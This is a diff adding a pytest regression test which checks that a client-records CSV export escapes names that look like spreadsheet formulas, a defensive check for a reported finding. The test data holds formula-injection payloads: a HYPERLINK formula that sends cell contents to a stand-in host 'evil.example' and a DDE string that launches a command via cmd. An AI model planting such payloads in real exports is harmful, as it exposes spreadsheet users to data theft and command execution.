@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import timedelta
 
 import httpx
+import openpyxl
 import pytest
 from sqlalchemy import func, select
 from sqlalchemy.ext.asyncio import AsyncSession
@@ -123,3 +126,39 @@ async def test_staff_export_of_referrals_names_the_client_and_meetings_export_fo
     meetings = await client.get("/v1/exports/meetings", params={"format": "csv"}, headers=world.auth("secretariat"))
     assert meetings.status_code == 200
     assert meetings.text.splitlines()[0].startswith("id,")
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+
+
+async def test_csv_cells_that_look_like_formulas_come_back_as_text(client: httpx.AsyncClient, world: World) -> None:
+    """Issue 14, finding 4: these names were exported verbatim, and ward staff open exports in Excel.
+    Read back as a spreadsheet would: split by a CSV reader, each cell put into an XLSX worksheet
+    (openpyxl, like Excel, makes a cell that begins with `=` a formula), saved and loaded again."""
+    auth = world.auth("caseworker")
+    for i, name in enumerate(FORMULA_NAMES):
+        made = await client.post("/v1/clients", headers=auth, json={
+            "name": name, "kana": "テスト " + "アイウエ"[i], "date_of_birth": "1970-01-01", "sex": "female",
+            "branch_code": "karasuyama", "residence_type": "apartment", "confirm_not_duplicate": True,
+            "notes": "=1+1"})
+        assert made.status_code == 201, made.text
+    response = await client.get("/v1/exports/clients", headers=auth, params={"format": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text)))
+    header, body = rows[0], rows[1:]
+    names = [row[header.index("name")] for row in body]
+    assert sorted(names) == sorted("'" + n for n in FORMULA_NAMES)
+    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    book = openpyxl.Workbook()
+    sheet = book.active
+    assert sheet is not None
+    for row in rows:
+        sheet.append(row)
+    saved = io.BytesIO()
+    book.save(saved)
+    reread = openpyxl.load_workbook(io.BytesIO(saved.getvalue())).active
+    assert reread is not None
+    cells = [cell for row in reread.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "a cell would run as a formula"
+    assert {str(c.value) for c in cells} >= {"'" + n for n in FORMULA_NAMES}
